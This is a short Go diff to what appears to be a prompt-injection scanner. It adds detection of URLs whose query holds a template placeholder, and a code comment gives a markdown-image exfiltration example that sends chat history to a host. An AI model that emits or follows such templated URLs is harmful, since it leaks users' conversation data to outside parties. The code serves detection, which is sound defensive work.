@@ -84,6 +84,14 @@ func (a *analysis) markURLs(s *scanned, field string) {
 			return
 		}
 		lo, hi := s.sents[k][0], s.sents[k][1]
+		// a URL whose query is a placeholder for data the model is to fill
+		// in (markdown-image exfiltration: ![x](https://h/p?d={history}))
+		if q := strings.IndexByte(url, '?'); q > 0 && strings.ContainsAny(url[q:], "{<$[") {
+			image := start >= 2 && strings.HasSuffix(f[:start], "](") && strings.Contains(f[max(0, start-200):start], "![")
+			if image || a.unnegatedAction(s, lo, hi, rSend|rInclude) || s.mask(lo, hi)&(rConv|rCred) != 0 {
+				a.add(sigURLTemplate, field, wURLTemplate, url)
+			}
+		}
 		if a.unnegatedAction(s, lo, hi, rSend) {
 			a.add(sigURLSend, field, wURLSend, s.span(lo, hi))
 			if suspicious {
